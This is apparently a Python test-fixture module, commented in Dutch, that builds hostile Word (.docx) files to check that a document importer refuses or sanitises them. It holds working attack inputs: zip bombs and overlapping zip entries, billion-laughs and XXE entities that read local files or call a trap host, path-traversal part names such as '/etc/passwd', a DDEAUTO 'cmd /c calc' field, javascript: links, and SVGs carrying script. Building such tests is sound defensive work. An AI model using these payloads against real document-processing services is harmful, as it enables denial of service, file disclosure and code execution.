"""Hostile Word documents."""

import io
import random
import struct
import sys
import zipfile
from pathlib import Path

sys.path.insert(0, str(Path(__file__).resolve().parents[1] / "import_fixtures"))
from by_hand import NAMESPACES, PNG, W, R, docx, p, picture, r  # noqa: E402
from cases import SVG  # noqa: E402
from documents import DocumentAttack  # noqa: E402

BAD = "javascript:alert(1)"
MARKUP = "&lt;script&gt;alert(1)&lt;/script&gt;&lt;img src=x onerror=alert(1)&gt;"
MARKDOWN = f"[x]({BAD}) ![x](../../geheim.svg) ```aanbod {{{{x}}}} [^1]: x [@x] &lt;svg onload=x&gt; --- # kop {{#a}}"
END = p(r("Einde."))
REFUSED, TOLD, AS_TEXT = "het document wordt geweigerd", "het vervalt en dat wordt verteld", "komt in als tekst"


def word(name, content, says=None, does=AS_TEXT, **options):
    return DocumentAttack("docx", name, content, says, does, **options)


def document(inner, head=""):
    """The main part as XML, so that its head can be anything."""
    return f'<?xml version="1.0"?>{head}<w:document xmlns:w="{W}" xmlns:r="{R}" {NAMESPACES}><w:body>{inner}</w:body></w:document>'


def entity(system):
    return f"<!DOCTYPE x [<!ENTITY e SYSTEM '{system}'>]>"


def bomb(count=40 << 20):
    return lambda *_: docx(END, raw=document(p(r(" " * count)) + END))


def many_parts(*_):
    return docx(END, parts={f"word/media/{number}.xml": b"" for number in range(6_000)})


def one_part_many_times(*_):
    """Names that share one piece of packed data: small to send, large to unpack (Fifield, WOOT 2019)."""
    out = io.BytesIO(docx(p(picture("rI", "x")) + END, [("rI", "image", "media/0.svg", False)],
                          {"word/media/0.svg": b"<svg>" + b" " * (900 << 10)}))
    data = out.getvalue()
    end = data.rindex(b"PK\5\6")
    size, offset = struct.unpack("<II", data[end + 12:end + 20])
    directory = data[offset:offset + size]
    last = directory[directory.rindex(b"PK\1\2"):]
    copies = b"".join(last.replace(b"media/0.svg", b"media/%05d" % number) for number in range(3_000))
    count = 3_000 + struct.unpack("<H", data[end + 10:end + 12])[0]
    return data[:end] + copies + data[end:end + 8] + struct.pack("<HHII", count, count, size + len(copies), offset) + b"\0\0"


def many(form, count):
    """Texts that do not pack so well that the ratio alone tells."""
    dice = random.Random(count)
    return "".join(form.format(dice.getrandbits(24)) for _ in range(count))


def large_pictures(*_):
    dice = random.Random(1)
    data = [PNG + b"".join(dice.randbytes(400) + bytes(40_000) for _ in range(390)) for _ in range(25)]
    return docx("".join(p(picture(f"r{n}", "x")) for n in range(25)) + END, [(f"r{n}", "image", f"media/{n}.png", False) for n in range(25)],
                {f"word/media/{n}.png": inner for n, inner in enumerate(data)})


def raw(names):
    """A document with parts under names that a container may not have."""
    def make(*_):
        out = io.BytesIO(docx(p(picture("rI", "x")) + END, [("rI", "image", names[0], False)]))
        with zipfile.ZipFile(out, "a") as archive:
            for name in names:
                info = zipfile.ZipInfo("x")
                info.filename = name
                archive.writestr(info, SVG.format("", "<text>van binnen</text>"))
        return out.getvalue()
    return make


def broken(change):
    """A good document of which a field of the last directory record (PK 5 6), or of the main part's entry, is another."""
    def make(*_):
        data = bytearray(docx(END))
        entry = data.rindex(b"PK\1\2", 0, data.rindex(b"word/document.xml"))
        change(data, data.rindex(b"PK\5\6"), entry)
        return bytes(data)
    return make


def put(place, form, value, record=0):
    def change(data, end, entry):
        struct.pack_into(form, data, (end, entry)[record] + place, value)
    return broken(change)


def deep(open_, close, count=10_000):
    return lambda *_: docx(open_ * count + p(r("diep")) + close * count + END)


def pictured(data, name="media/x.svg", alternative="x"):
    return docx(p(picture("rI", alternative)) + END, [("rI", "image", name, False)], {f"word/{name}": data})


def linked(target, kind="hyperlink"):
    return docx(p(f'<w:hyperlink r:id="rL">{r("klik")}</w:hyperlink>') + END, [("rL", kind, target, True)])


def field(instruction):
    def char(kind):
        return f'<w:r><w:fldChar w:fldCharType="{kind}"/></w:r>'
    return docx(p(char("begin") + f"<w:r><w:instrText>{instruction}</w:instrText></w:r>" + char("separate") + r("tekst")
                  + char("end")) + END)


def containers():
    yield word("een deel dat 250 keer zo groot wordt", bomb(), "HB-IN-001", REFUSED)
    yield word("zesduizend delen", many_parts, "HB-IN-001", REFUSED)
    yield word("drieduizend namen voor één deel", one_part_many_times, None, "elk deel telt één keer")
    nest = docx(END)
    for _ in range(30):
        nest = docx(END, parts={"word/embeddings/x.docx": nest})
    yield word("dertig documenten in elkaar", nest, None, "alleen het buitenste wordt gelezen")
    yield word("deel met .. in de naam", raw(["../../geheim.svg", "../../../../geheim.svg"]), "HB-OVER-004", "niets buiten het document wordt gelezen of geschreven")
    yield word("deel met een absoluut pad", raw(["/etc/passwd"]), None, "niets buiten het document wordt gelezen of geschreven")
    yield word("deel met een stuurteken en omgekeerde tekst", raw(["media/\x1b[31m\u202egvs.svg"]), None, "de afbeelding krijgt een eigen naam")
    yield word("afgebroken na de helft", lambda *_: docx(END)[:900], "HB-IN-001", REFUSED)
    yield word("zonder eind van de lijst", broken(lambda data, end, entry: data.__delitem__(slice(end, None))), "HB-IN-001", REFUSED)
    yield word("lijst van delen voorbij het eind", put(16, "<I", 0xFFFFFF00), "HB-IN-001", REFUSED)
    yield word("65.535 delen beloofd", put(10, "<H", 0xFFFF), "HB-IN-001", REFUSED)
    yield word("naam langer dan het bestand", put(28, "<H", 0xFFFF, 1), "HB-IN-001", REFUSED)
    yield word("deel voorbij het eind", put(42, "<I", 0x7FFFFFFF, 1), "HB-IN-001", REFUSED)
    yield word("deel van vier gigabyte beloofd", put(24, "<I", 0xFFFFFFFE, 1), "HB-IN-001", REFUSED)
    yield word("onbekende manier van inpakken", put(10, "<H", 99, 1), "HB-IN-001", REFUSED)
    yield word("versleuteld deel", put(8, "<H", 1, 1), "HB-IN-001", REFUSED)
    yield word("alleen de kop van een container", b"PK\3\4" + b"\0" * 40, "HB-IN-001", REFUSED)


def markup():
    yield word("een miljard entiteiten", docx(END, raw=document(p(r("&j;")), "<!DOCTYPE x [<!ENTITY a 'xxxxxxxxxx'>" + "".join(
        f"<!ENTITY {b} '{f'&{a};' * 10}'>" for a, b in zip("abcdefghi", "bcdefghij")) + "]>")), "HB-IN-001", REFUSED)
    yield word("entiteit van een bestand", lambda _, out: docx(END, raw=document(p(r("&e;")), entity(f"file://{out}/geheim.xml"))), "HB-IN-001", REFUSED)
    yield word("entiteit van een adres", lambda trap, _: docx(END, raw=document(p(r("&e;")), entity(f"http://{trap}/x"))), "HB-IN-001", REFUSED)
    yield word("DTD van een adres", lambda trap, _: docx(END, raw=document(p(r("x")), f"<!DOCTYPE x SYSTEM 'http://{trap}/x.dtd'>")), None, "niets wordt opgehaald")
    yield word("parameterentiteit van een adres", lambda trap, _: docx(END, raw=document(p(r("x")), f"<!DOCTYPE x [<!ENTITY % p SYSTEM 'http://{trap}/x'> %p;]>")), None, "niets wordt opgehaald")
    yield word("entiteit in de eigenschappen en de stijlen", lambda _, out: docx(END, parts={
        "word/styles.xml": f"<?xml version='1.0'?>{entity(f'file://{out}/geheim.xml')}<w:styles xmlns:w='{W}'>&e;</w:styles>",
        "word/footnotes.xml": f"<?xml version='1.0'?>{entity(f'file://{out}/geheim.xml')}<w:footnotes xmlns:w='{W}'>&e;</w:footnotes>"}), None, "het deel vervalt")
    yield word("XInclude van een bestand", lambda _, out: docx(END, raw=document(
        p(r("x") + f"<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' parse='text' href='file://{out}/geheim.xml'/>"))), None, "niets wordt opgehaald")
    yield word("UTF-7", docx(END, raw="<?xml version='1.0' encoding='UTF-7'?>" + document(p(r("+ADw-script+AD4-")))[21:]), "HB-IN-001", REFUSED)
    yield word("tienduizend tabellen in elkaar", deep("<w:tbl><w:tr><w:tc>", "</w:tc></w:tr></w:tbl>"), "HB-IN-001", REFUSED)
    yield word("tienduizend besturingselementen in elkaar", deep("<w:sdt><w:sdtContent>", "</w:sdtContent></w:sdt>"), "HB-IN-001", REFUSED)
    yield word("honderdduizend lagen die niet sluiten", lambda *_: docx("<w:p>" * 100_000), "HB-IN-001", REFUSED)
    yield word("tabel van 400 bij 100", lambda *_: docx(f"<w:tbl>{''.join('<w:tr>' + ''.join(f'<w:tc>{p(r(str(a * b % 9973)))}</w:tc>' for a in range(400)) + '</w:tr>' for b in range(100))}</w:tbl>" + END), "HB-OVER-003", "de tabel vervalt en dat wordt verteld")
    yield word("een miljoen alinea's", lambda *_: docx(many("<w:p><w:r><w:t>{}</w:t></w:r></w:p>", 1_000_000)), "HB-IN-001", REFUSED)
    yield word("een miljoen lege elementen", lambda *_: docx(p(many("<w:proofErr w:type='{}'/>", 1_000_000)) + END), "HB-IN-001", REFUSED)
    yield word("cellen van twee miljard kolommen", docx("<w:tbl>" + ('<w:tr><w:tc><w:tcPr><w:gridSpan w:val="2147483647"/></w:tcPr>' + p(r("a")) + "</w:tc></w:tr>") * 50 + "</w:tbl>" + END), None, "de breedte wordt begrensd")
    yield word("attribuut van twintig megabyte", lambda *_: docx(p(f'<w:bookmarkStart w:id="1" w:name="{"a" * (20 << 20)}"/>' + r("x")) + END), "HB-IN-001", REFUSED)
    yield word("adres van vijf megabyte", lambda *_: linked("https://example.org/" + "a" * (5 << 20)), None, "de link wordt begrensd")
    yield word("honderdduizend attributen", lambda *_: docx(p("<w:r " + " ".join(f'a{n}="1"' for n in range(100_000)) + "><w:t>x</w:t></w:r>") + END), "HB-IN-001", REFUSED)
    yield word("tweehonderdduizend alinea's", lambda *_: docx(p(r("tekst *vet* [haken]")) * 200_000), None, "komt in, of is te groot")
    yield word("stijlen en nummers die naar elkaar wijzen", docx(p(r("a"), "A") + END, parts={"word/styles.xml": f'<w:styles xmlns:w="{W}">' + "".join(
        f'<w:style w:type="paragraph" w:styleId="{a}"><w:name w:val="{a}"/><w:basedOn w:val="{b}"/></w:style>' for a, b in ("AB", "BA", "CC")) + "</w:styles>"}))
    yield word("voetnoot die zichzelf noemt", docx(p(r("x") + '<w:r><w:footnoteReference w:id="2"/></w:r>') + END, [("rF", "footnotes", "footnotes.xml", False)], {
        "word/footnotes.xml": f'<w:footnotes xmlns:w="{W}"><w:footnote w:id="2">{p(r("noot") + "<w:r><w:footnoteReference w:id=%s2%s/></w:r>" % (chr(34), chr(34)))}</w:footnote></w:footnotes>'}))
    yield word("honderdduizend velden die niet sluiten", lambda *_: docx(p('<w:r><w:fldChar w:fldCharType="begin"/></w:r>' * 100_000 + r("x")) + END))


def outside():
    for target in (BAD, "JaVa&#9;ScRiPt:alert(1)", "file:///etc/passwd", "vbscript:x", "data:text/html,x", "ms-word:ofe|u|x"):
        yield word(f"link naar {target.split(',')[0]}", linked(target), "HB-OVER-004", "de tekst blijft, de link vervalt")
    for target in ("\\\\kwaad.example\\deel", "../../geheim.svg", "/etc/passwd"):
        yield word(f"link naar {target}", linked(target), None, "de tekst blijft, de link vervalt")
    yield word("link van buiten met HTML in het adres", linked("https://example.org/&quot;onclick=&quot;alert(1)"), None, "het teken wordt %22")
    for name, instruction in (("HYPERLINK met javascript:", f' HYPERLINK "{BAD}" '), ("DDE", ' DDEAUTO cmd "/c calc" '),
                              ("INCLUDETEXT", ' INCLUDETEXT "/etc/passwd" '), ("INCLUDEPICTURE", ' INCLUDEPICTURE "../geheim.svg" ')):
        yield word(f"veld {name}", field(instruction), "HB-OVER-004", "het veld wordt niet uitgevoerd")
    yield word("afbeelding van een adres", lambda trap, _: docx(p(picture("rI", "x", attribute="link")) + END, [("rI", "image", f"http://{trap}/x.png", True)]), "HB-OVER-004", "niets wordt opgehaald")
    yield word("afbeelding van een bestand", lambda _, out: docx(p(picture("rI", "x")) + END, [("rI", "image", f"file://{out}/geheim.svg", True)]), "HB-OVER-004", "niets wordt opgehaald")
    yield word("sjabloon van een adres", lambda trap, _: docx(END, settings=f'<Relationship Id="t" Type="{R}/attachedTemplate" Target="http://{trap}/x.dotm" TargetMode="External"/>'), "HB-OVER-004", "niets wordt opgehaald")
    for kind in ("aFChunk", "subDocument", "frame", "oleObject"):
        yield word(f"{kind} van een adres", lambda trap, _, kind=kind: docx(p('<w:altChunk r:id="rA"/><w:subDoc r:id="rA"/>') + '<w:altChunk r:id="rA"/><w:subDoc r:id="rA"/>' + END, [("rA", kind, f"http://{trap}/x", True)]), None, "niets wordt opgehaald")
    yield word("stuk HTML in het document", docx('<w:altChunk r:id="rA"/>' + END, [("rA", "aFChunk", "x.html", False)], {"word/x.html": "<script>alert(1)</script><p>x</p>"}), None, "het vervalt")
    yield word("hoofdtekst buiten het document", docx(END, parts={"_rels/.rels": '<Relationships><Relationship Id="r1" Type="x/officeDocument" Target="../../../etc/passwd"/></Relationships>'}), None, "niets van buiten wordt gelezen")
    yield word("macro's", docx(END, [("rM", "vbaProject", "vbaProject.bin", False)], {"word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + b"x" * 500}), None, "wordt niet gelezen", )


def pictures():
    svg = [("script", "<script>alert(1)</script>"), ("handler", '<rect onclick="alert(1)"/>'),
           ("beeld van een bestand", '<image href="../../geheim.svg"/>'), ("stijl van elders", "<style>@import 'https://kwaad.example/x';</style>")]
    for name, inner in svg:
        yield word(f"tekening met {name}", pictured(SVG.format("", inner)), "HB-OVER-004", "de tekening vervalt")
    yield word("tekening met entiteit van een bestand", lambda _, out: pictured(entity(f"file://{out}/geheim.xml") + SVG.format("", "<text>&e;</text>")), "HB-OVER-004", "de tekening vervalt")
    yield word("tekening met script die .png heet", pictured(SVG.format("", "<script>alert(1)</script>"), "media/x.png"), "HB-OVER-004", "de tekening vervalt")
    yield word("pagina die .png heet", pictured("<html><script>alert(1)</script></html>", "media/x.png"), "HB-OVER-005", "de afbeelding vervalt")
    yield word("GIF die ook een pagina is", pictured(b"GIF89a/*<script>alert(1)</script>*/", "media/x.gif"), None, "blijft een afbeelding: zij heet .gif")
    yield word("PNG van een miljard bij een miljard", pictured(PNG[:16] + struct.pack(">II", 10 ** 9, 10 ** 9) + PNG[24:], "media/x.png"), None, "komt in zoals zij is")
    yield word("afgebroken PNG", pictured(PNG[:30], "media/x.png"), None, "komt in zoals zij is")
    yield word("vierhonderd megabyte aan afbeeldingen", large_pictures, "HB-OVER-005", "boven de grens vervallen zij", builds=False)
    yield word("afbeelding met een pad als naam", pictured(PNG, "../boek/hoofdstukken/01-een.md"), None, "niets buiten het document wordt gelezen of geschreven")
    yield word("duizend keer een andere afbeelding", lambda *_: docx("".join(p(picture(f"r{n}", "x")) for n in range(1_200)), [(f"r{n}", "image", f"media/{n}.png", False) for n in range(1_200)], {
        f"word/media/{n}.png": PNG + b"%d" % n for n in range(1_200)}), "HB-OVER-005", "boven de duizend vervallen zij")
    yield word("beschrijving met HTML en Markdown", pictured(PNG, "media/x.png", f"{MARKUP} {MARKDOWN} ](x"))


def texts():
    yield word("HTML in tekst en kop", docx(p(r(MARKUP), "Kop1") + p(r(MARKUP), "Titel") + p(r(MARKUP))), None, "is tekst")
    yield word("Markdown in tekst, kop en cel", docx(p(r(MARKDOWN), "Kop1") + p(r(MARKDOWN)) + f"<w:tbl><w:tr><w:tc>{p(r(MARKDOWN + ' | x'))}</w:tc></w:tr></w:tbl>"), None, "is tekst")
    yield word("YAML in titel, auteur en trefwoorden", docx(END, parts={
        "_rels/.rels": f'<Relationships><Relationship Id="r1" Type="x/officeDocument" Target="word/document.xml"/><Relationship Id="r2" Type="x/core-properties" Target="core.xml"/></Relationships>',
        "core.xml": '<c xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title>x\n---\nthemas: *a</dc:title><dc:creator>x\n---\n&lt;script&gt;</dc:creator><keywords>&amp;a, *a, !!x</keywords><dc:description>|\n---\n</dc:description><dc:language>nl\n---\n</dc:language></c>'}), None, "is tekst")
    yield word("omgekeerde en onzichtbare tekens", docx(p(r("a\u202eb\u200bc\ufeffd\u2066e\x9bf"), "Kop1") + p(r("a\u202eb\u200bc\ufeffd\u2028e\x9bf"))), None, "de tekens vervallen")
    yield word("bladwijzers met HTML", docx(p(f'<w:bookmarkStart w:id="1" w:name="&quot;onclick=x&gt;{MARKUP}"/>' + r("Kop"), "Kop1") + p(f'<w:hyperlink w:anchor="&quot;onclick=x&gt;{MARKUP}">{r("x")}</w:hyperlink>')), None, "krijgen een gewone naam")
    yield word("opmerking en wijziging met stuurtekens", docx(p('<w:ins w:author="\x9b31m\u202e" w:date="x"><w:r><w:t>nieuw</w:t></w:r></w:ins>') + END), "HB-OVER-001", "de tekens vervallen")
    yield word("bestandsnaam met stuurtekens en omgekeerde tekst", docx(END), None, "krijgt een gewone naam", file="a\x1b]0;x\x07\u202eb\nc")
    yield word("bestandsnaam van alleen punten", docx(END), None, "krijgt een gewone naam", file="...")


def documents():
    return [*containers(), *markup(), *outside(), *pictures(), *texts()]
